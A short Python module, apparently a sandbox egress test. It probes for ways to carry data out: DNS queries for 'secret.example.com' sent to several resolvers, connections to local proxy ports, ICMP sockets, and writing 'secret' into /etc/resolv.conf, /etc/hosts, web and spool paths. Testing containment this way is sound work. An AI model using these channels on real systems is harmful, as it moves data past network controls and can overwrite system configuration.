"""Data carried out: by DNS queries, by named or guessed proxies, by files that others might fetch"""

import os
import socket
import urllib.request

from tools import stopped, writes

RESOLVERS = ("127.0.0.11", "127.0.0.53", "10.0.0.2", "168.63.129.16", "1.1.1.1", "8.8.8.8", "::1")
PROXIES = (3128, 8080, 8118, 8888, 9050)
QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"


def attack():
    tried = {f"DNS by {address}": stopped(ask, address) for address in RESOLVERS}
    tried |= {
        f"proxy at {port}": stopped(socket.create_connection, ("127.0.0.1", port), 0.2) for port in PROXIES
    }
    named = [value for name, value in os.environ.items() if "proxy" in name.lower()]
    tried["a proxy that is named"] = "" if named or urllib.request.getproxies() else "none"
    tried["a name with data in it"] = stopped(socket.getaddrinfo, "secret.example.com", 53)
    tried["echo"] = stopped(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    tried["echo without rights"] = stopped(
        socket.socket, socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP
    )
    for path in ("/etc/resolv.conf", "/etc/hosts", "/var/www/html/x", "/srv/x", "/var/spool/x", "/var/log/x"):
        tried[f"left at {path}"] = writes(path, "secret")
    return tried


def ask(address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.2)
        asking.sendto(QUERY, (address, 53))
